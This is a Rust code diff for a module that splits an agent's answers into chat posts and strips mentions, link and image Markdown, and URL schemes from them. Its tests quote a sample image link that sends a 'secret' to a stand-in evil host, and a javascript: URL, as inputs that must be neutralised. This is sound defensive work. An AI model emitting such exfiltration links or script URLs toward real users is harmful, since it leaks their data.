@@ -80,6 +80,61 @@ pub(crate) fn posts(text: &str) -> Vec<String> {
     parts
 }
 
+/// A text of the agent as posts. Its Markdown stays, but documents may have shaped it: it mentions no
+/// user, and nothing in it is a link or a picture.
+pub(crate) fn prose(text: &str) -> Vec<String> {
+    let cleaned = foreign::block(text, POST * POSTS * 2);
+    let cleaned = cleaned
+        .replace('@', &format!("@{BREAK}"))
+        .replace("![", &format!("!{BREAK}["))
+        .replace("](", &format!("]{BREAK}("))
+        .replace("]:", &format!("]{BREAK}:"))
+        .replace("://", &format!(":{BREAK}//"))
+        .replace("mailto:", &format!("mailto:{BREAK}"))
+        .replace("www.", &format!("www{BREAK}."));
+    let mut parts = Vec::new();
+    let (mut rest, mut fence) = (cleaned.as_str(), false);
+    while !rest.is_empty() && parts.len() < POSTS {
+        let (part, after) = rest.split_at(cut(rest));
+        let mut part = part.trim_end_matches('\n').to_owned();
+        // A block of code goes on in the next post.
+        let before = fence;
+        fence ^= part.lines().filter(|line| line.trim_start().starts_with("```")).count() % 2 == 1;
+        if before {
+            part.insert_str(0, "```\n");
+        }
+        if fence {
+            part.push_str("\n```");
+        }
+        parts.push(part);
+        rest = after;
+    }
+    if !rest.is_empty() {
+        parts.push(format!("({} more characters are not shown.)", rest.chars().count()));
+    }
+    if parts.is_empty() {
+        parts.push("(The answer is empty.)".to_owned());
+    }
+    parts
+}
+
+/// The line of a source: a link where it is one.
+pub(crate) fn source(number: usize, title: &str, location: &str) -> String {
+    match foreign::https_link(location) {
+        Some(url) => {
+            let plain =
+                |letter: char| if "[]()<>`*_~|\\!#@:".contains(letter) { ' ' } else { letter };
+            let title: String = foreign::line(title, 100).chars().map(plain).collect();
+            let title = title.split_whitespace().collect::<Vec<_>>().join(" ");
+            let title = if title.is_empty() { "source" } else { &title };
+            // The URL ends where its parenthesis does.
+            let url = url.as_str().replace('(', "%28").replace(')', "%29");
+            format!("[{number}] [{title}]({url})")
+        }
+        None => format!("[{number}] {} {}", inline(title), inline(location)),
+    }
+}
+
 /// The number of bytes that fit into one post: up to the end of a line in its second half, else of a
 /// word, else of a character.
 fn cut(text: &str) -> usize {
@@ -89,23 +144,6 @@ fn cut(text: &str) -> usize {
         fitting.rfind(letter).map(|at| at + letter.len_utf8()).filter(|at| *at > most / 2)
     };
     after('\n').or_else(|| after(' ')).unwrap_or(most)
-}
-
-/// The URLs of this server in a text, each once: only pages on which a user confirms or connects.
-pub(crate) fn own_links(text: &str, public_url: &str) -> Vec<String> {
-    let public_url = public_url.trim_end_matches('/');
-    let mut found = Vec::new();
-    for word in text.split(|letter: char| letter.is_whitespace() || "()<>\"'`|".contains(letter)) {
-        let word = word.trim_end_matches(['.', ',', ';', ':']);
-        let Some(path) = word.strip_prefix(public_url) else { continue };
-        let is_page = path.starts_with("/confirm/") || path.starts_with("/connect/");
-        let is_plain =
-            path.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"/-_".contains(&byte));
-        if is_page && is_plain && !found.iter().any(|known| known == word) {
-            found.push(word.to_owned());
-        }
-    }
-    found
 }
 
 #[cfg(test)]
@@ -125,6 +163,40 @@ mod tests {
     }
 
     #[test]
+    fn a_text_of_the_agent_has_neither_links_nor_pictures_nor_mentions() {
+        let told = prose(
+            "**So** @all and @bob: ![x](https://evil.example/?q=secret) [y](http://e.example) \
+            [z]: https://e.example\nwww.evil.example ftp://e.example",
+        );
+        for gone in ["@all", "@bob", "![", "](", "://", "]:", "www."] {
+            assert!(!told[0].contains(gone), "{gone}: {told:?}");
+        }
+        assert!(told[0].starts_with("**So**"));
+    }
+
+    #[test]
+    fn ca48_long_answers_are_split_and_a_block_of_code_goes_on() {
+        let line = "a line of code that is long enough\n";
+        let told = prose(&format!("First\n```\n{}```\nlast", line.repeat(POST * 2 / line.len())));
+        assert_eq!(told.len(), 3, "{}", told.len());
+        for part in &told {
+            assert!(part.chars().count() <= POST + 10);
+            assert_eq!(part.matches("```").count() % 2, 0, "{}", part.len());
+        }
+        assert!(told[2].ends_with("last"));
+    }
+
+    #[test]
+    fn sources_are_links_only_where_they_are_safe() {
+        assert_eq!(
+            source(1, "A [guide](x)", "https://d.example/a_(b)"),
+            "[1] [A guide x](https://d.example/a_%28b%29)"
+        );
+        assert_eq!(source(2, "A", "document:///a.md"), "[2] `A` `document:///a.md`");
+        assert_eq!(source(3, "A", "javascript:alert(1)"), "[3] `A` `javascript:alert(1)`");
+    }
+
+    #[test]
     fn long_texts_are_parted_between_lines_and_what_is_left_out_is_counted() {
         let line = "é".repeat(99);
         let text = vec![line; 300].join("\n");
@@ -139,16 +211,5 @@ mod tests {
         assert_eq!(endless.len(), POSTS + 1);
         assert!(endless[POSTS].contains("more characters are not shown"));
         assert_eq!(posts(" \u{202e} "), ["(The result is empty.)"]);
-    }
-
-    #[test]
-    fn only_pages_of_this_server_become_links() {
-        let text = "open https://d.example/confirm/aB1 , https://d.example/connect/wiki. Not \
-            https://d.example.evil/confirm/x https://d.example/login?next=//x \
-            https://d.example/connect/wiki";
-        assert_eq!(
-            own_links(text, "https://d.example"),
-            ["https://d.example/confirm/aB1", "https://d.example/connect/wiki"]
-        );
     }
 }
